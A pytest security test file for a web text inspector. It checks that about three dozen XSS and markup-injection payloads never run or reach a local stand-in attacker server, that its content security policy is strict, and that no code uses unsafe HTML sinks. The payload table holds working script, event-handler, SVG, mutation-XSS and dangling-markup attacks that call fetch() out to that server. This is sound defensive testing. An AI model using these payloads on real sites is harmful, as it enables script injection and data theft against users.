"""Attacks from a page on the inspector: none runs, and no other server gets a request.

Every attack is made twice: as a page that is sent to the service, and with the page's markup in every text of
the response, as if the service filtered nothing. A third test shows that the attacks are real: opened without
protection, they reach the attacker's server.
"""

import json
import re
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

Open = Callable[..., Any]

# {0} is the URL of the attacker's server. The second part says whether an attack does nothing by itself: it
# waits for a click, or for a program that rewrites the page.
ATTACKS: dict[str, tuple[str, bool]] = {
    "script": ("<script>fetch('{0}');top.pwned=1</script>", False),
    "script from elsewhere": ("<script src='{0}'></script>", False),
    "module script": ("<script type=module>import '{0}'</script>", False),
    "onerror": ("<img src=x: onerror=\"fetch('{0}');top.pwned=1\">", False),
    "image": ("<img src='{0}'>", False),
    "srcset": ("<img srcset='{0} 1x'><picture><source srcset='{0}'><img></picture>", False),
    "onload of the body": ("<body onload=\"fetch('{0}');top.pwned=1\">", False),
    "handler of focus": ("<input autofocus onfocus=\"fetch('{0}');top.pwned=1\">", False),
    "javascript: link": ("<a href=\"javascript:fetch('{0}');top.pwned=1\">Read on</a>", True),
    "link away": ("<a href='{0}' ping='{0}' target=_top>Read on</a>", True),
    "link to data:": (
        "<a href=\"data:text/html,<script>fetch('{0}')</script>\" target=_top>Read on</a>",
        True,
    ),
    "svg": (
        "<svg onload=\"fetch('{0}');top.pwned=1\"><script>fetch('{0}')</script><image href='{0}'/></svg>",
        False,
    ),
    "svg in an image": ("<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\">", True),
    "mathml": (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x: onerror=fetch('{0}')>\">",
        True,
    ),
    "template": ("<template><img src=x: onerror=\"fetch('{0}')\"></template>", True),
    "noscript": ("<noscript><p title=\"</noscript><img src=x: onerror=fetch('{0}')>\"></noscript>", False),
    "srcdoc": ("<iframe srcdoc=\"<script>fetch('{0}');top.pwned=1</script>\"></iframe>", False),
    "frame": ("<iframe src='{0}'></iframe>", False),
    "object": ("<object data='{0}'></object><embed src='{0}'>", False),
    "meta refresh": ("<meta http-equiv=refresh content='0;url={0}'>", False),
    "base": ("<base href='{0}' target=_top><img src=pixel.png>", False),
    "prefetch": ("<link rel=prefetch href='{0}'><link rel=preload as=image href='{0}'>", False),
    "style sheet": ("<link rel=stylesheet href='{0}'>", False),
    "style @import": ("<style>@import url('{0}');</style>", False),
    "css url()": (
        "<p style=\"background:url('{0}')\">Text</p><style>body{{background:url('{0}')}}</style>",
        False,
    ),
    "css over the inspector": (
        "<style>*{{position:fixed!important;inset:0;z-index:9;background:red}}</style>",
        True,
    ),
    "font": ("<style>@font-face{{font-family:f;src:url('{0}')}}p{{font-family:f}}</style><p>Text</p>", False),
    "form": ("<form action='{0}' id=f><input name=a><button>Go</button></form>", True),
    "form sent at once": ("<form action='{0}' id=f><input name=a></form><script>f.submit()</script>", False),
    "audio and video": (
        "<video src='{0}' poster='{0}' autoplay></video><audio src='{0}' autoplay></audio>",
        False,
    ),
    "dangling markup": ("<img src='{0}?<p>The token is 4711</p>'>", False),
    "dangling end tags": ("</span></div></body></html></iframe></template><img src='{0}'>", False),
    "closes the frame": ("\"'></iframe><script>fetch('{0}');top.pwned=1</script>", False),
    "comment and CDATA": ("<!--><img src='{0}'>--><![CDATA[<img src='{0}'>]]>", False),
    "names of the inspector": ("<p id=notice name=state data-block=0>Text</p><img name=body>", True),
    "forged block": ("<span data-block='<img src={0}>' data-hidden=\"'><img src={0}>\">Text</span>", True),
}
FILLER = "<p>The tower was built in 1911, and it leans, as every visitor of the town hears at once.</p>"
NAMES = list(ATTACKS)


class Attacker:
    """The attacker's server: it records requests, and serves the attacks unchanged."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.asked.append(self.path)
                number = re.fullmatch(r"/raw/(\d+)", self.path)
                body = attacker.page(NAMES[int(number[1])]).encode() if number else b""
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if number else "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_address[1]}"

    def page(self, name: str) -> str:
        """An attack, in a page with some text."""
        attack = ATTACKS[name][0].format(f"{self.address}/stolen/{NAMES.index(name)}/")
        return f"<html><head><title>{attack}</title></head><body>{FILLER}{attack}{FILLER}</body></html>"

    @property
    def stolen(self) -> list[str]:
        """The requests made by an attack."""
        return [path for path in self.asked if not path.startswith(("/raw/", "/favicon"))]


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    attacker = Attacker()
    thread = Thread(target=attacker.server.serve_forever, daemon=True)
    thread.start()
    yield attacker
    attacker.server.shutdown()
    attacker.server.server_close()
    thread.join()


def watch(page: Any, address: str) -> list[str]:
    """URLs of other servers that the page requests from now on, and windows that it opens."""
    wrong: list[str] = []

    def note_dialog(dialog: Any) -> None:
        wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def note_request(asked: Any) -> None:
        if not asked.url.startswith((address, "blob:", "about:")):
            wrong.append(asked.url)

    page.on("dialog", note_dialog)
    page.context.on("request", note_request)
    page.context.on("page", lambda opened: wrong.append(f"window {opened.url}"))
    return wrong


def try_it(page: Any, html: str) -> None:
    """Paste a page, open all views of it, and click where its links would be."""
    page.evaluate(
        """html => {
            document.querySelector("iframe").dataset.old = "yes";
            const given = new DataTransfer();
            given.setData("text/plain", html);
            document.body.dispatchEvent(new ClipboardEvent("paste", { clipboardData: given, bubbles: true }));
        }""",
        html,
    )
    page.wait_for_function(
        "() => busy.hidden && document.querySelector('iframe[data-ready]:not([data-old])')"
    )
    for key in "432 1je":
        page.keyboard.press(key)
    for link in page.frames[1].query_selector_all(".link, a, button, input"):
        box = link.bounding_box()
        if box:
            page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)


LOOK = """() => ({
    pwned: typeof window.pwned,
    scripts: document.scripts.length,
    handlers: [...document.querySelectorAll("*")]
        .flatMap(one => one.getAttributeNames()).filter(name => /^on/.test(name)),
    addresses: [...document.querySelectorAll("[src], [href]")]
        .map(one => one.getAttribute("src") ?? one.getAttribute("href")),
})"""
LOOK_INSIDE = """() => {
    const all = [...document.body.querySelectorAll("*")];
    return {
        kinds: [...new Set(all.map(one => one.localName))],
        names: [...new Set(all.flatMap(one => one.getAttributeNames()))],
        styles: all.filter(one => one.hasAttribute("style")).map(one => one.getAttribute("style")),
    };
}"""
CAN_ACT = set(
    "a img script style iframe object embed form input button svg math link meta base video audio".split()
)


def without_fragment(url: str) -> str:
    return url.partition("#")[0]


def check(page: Any, address: str, wrong: list[str], attacker: Attacker) -> None:
    assert without_fragment(page.url) == address  # the inspector itself writes the fragment
    assert [without_fragment(frame.url) for frame in page.frames] == [address, "about:srcdoc"]
    seen = page.evaluate(LOOK)
    assert seen == {
        "pwned": "undefined",
        "scripts": 1,
        "handlers": [],
        "addresses": ["page/icon.svg", "page/style.css", "page/inspector.js", "#blocks", "page/icon.svg"],
    }
    inside = page.frames[1].evaluate(LOOK_INSIDE)
    assert not CAN_ACT & set(inside["kinds"])
    allowed = {"class", "style", "data-block", "data-hidden", "colspan", "rowspan", "dir", "lang", "open"}
    assert set(inside["names"]) <= allowed
    assert all(re.fullmatch(r"--p: [\d.]+;", style) for style in inside["styles"])
    assert wrong == []
    assert attacker.stolen == []


def test_no_attack_of_a_page_runs_or_reaches_its_server(open_inspector: Open, attacker: Attacker) -> None:
    page = open_inspector()
    address = without_fragment(page.url)
    wrong = watch(page, address)
    for name in NAMES:
        try_it(page, attacker.page(name))
        check(page, address, wrong, attacker)


def test_no_attack_runs_even_if_the_service_filters_nothing(open_inspector: Open, attacker: Attacker) -> None:
    page = open_inspector(errors=True)  # messages of the policy, which stops attacks
    address = without_fragment(page.url)
    wrong = watch(page, address)
    attack = ""

    def poison(route: Any) -> None:
        """The real response, with the attack in every text."""
        response = route.fetch()
        answer = response.json()
        answer["view"] = attack
        for key in ("title", "text", "markdown", "html", "explanation"):
            answer[key] = attack
        answer["status"] = answer["reason"] = attack
        answer["encoding"]["name"] = answer["kind"]["name"] = answer["verdict"]["reason"] = attack
        answer["hidden"] = [{"text": attack, "reason": attack, "xpath": attack}]
        answer["meanings"] = dict.fromkeys(answer["meanings"], attack)
        for drawn in (*answer["pictures"]["units"], *answer["pictures"].get("tree", ())):
            drawn.update(words=attack, xpath=attack, tag=attack)
        answer["features"]["names"] = [attack] * len(answer["features"]["names"])
        for block in answer["blocks"]:
            block.update(text=attack, tag=attack, xpath=attack, reason=attack)
            block["pushes"] = {attack: 1.0}
        route.fulfill(response=response, body=json.dumps(answer))

    page.route("**/explain", poison)
    for name in NAMES:
        attack = attacker.page(name)
        try_it(page, FILLER)
        check(page, address, wrong, attacker)
    attack = "".join(map(attacker.page, ("onerror", "svg", "script")))
    page.keyboard.press("p")
    try_it(page, FILLER)
    page.wait_for_selector("[data-picture=p]")
    check(page, address, wrong, attacker)


def test_the_attacks_are_real(browser: Any, attacker: Attacker) -> None:
    """Attacks that need no action reach the attacker's server when their page is opened directly."""
    for number, name in enumerate(NAMES):
        if ATTACKS[name][1]:
            continue
        context = (
            browser.new_context()
        )  # a new one for each: a page that attacks may block the next in its process
        page = context.new_page()
        place = f"/stolen/{number}/"  # one for each attack: the browser keeps what it has loaded
        page.goto(f"{attacker.address}/raw/{number}", wait_until="commit")
        until = time.monotonic() + 60
        while not any(path.startswith(place) for path in attacker.asked):
            assert time.monotonic() < until, f"{name} does nothing"
            page.wait_for_timeout(5)
        context.close()


def test_the_policy_of_the_inspector_is_strict(open_inspector: Open) -> None:
    page = open_inspector()
    policy = page.evaluate("fetch('/').then(answer => answer.headers.get('content-security-policy'))")
    directives = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == directives["style-src"] == directives["connect-src"] == "'self'"
    assert directives["frame-src"] == directives["base-uri"] == directives["form-action"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    frame = page.locator("#view iframe")
    assert frame.get_attribute("sandbox") == "allow-same-origin"


def test_every_attack_is_in_the_table_of_the_documentation_and_no_other() -> None:
    docs = Path(__file__).parents[3].joinpath("docs/inspector.md").read_text(encoding="utf-8")
    rows = docs.partition("| attack | by itself |")[2].split("\n\n")[0].splitlines()[2:]
    table = {cells[1].strip(): cells[2].strip() for cells in (row.split("|") for row in rows)}
    assert table == {name: "" if waits else "yes" for name, (_, waits) in ATTACKS.items()}


def test_markup_is_never_set_in_the_inspector() -> None:
    """No file of the inspector can turn text into markup, except the frame's shell and the parser for it."""
    folder = Path(__file__).parents[3] / "src" / "maintext" / "serve" / "page"
    ways = re.compile(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|setHTMLUnsafe|createContextualFragment"
        r"|\beval\(|new Function"
    )
    assert [file.name for file in folder.glob("*.js") if ways.search(file.read_text("utf-8"))] == []
    uses = {
        file.name: re.findall(r"srcdoc = (\w+)|(DOMParser)", file.read_text("utf-8"))
        for file in folder.glob("*.js")
    }
    assert {name: found for name, found in uses.items() if found} == {
        "frame.js": [("", "DOMParser"), ("SHELL", "")]
    }
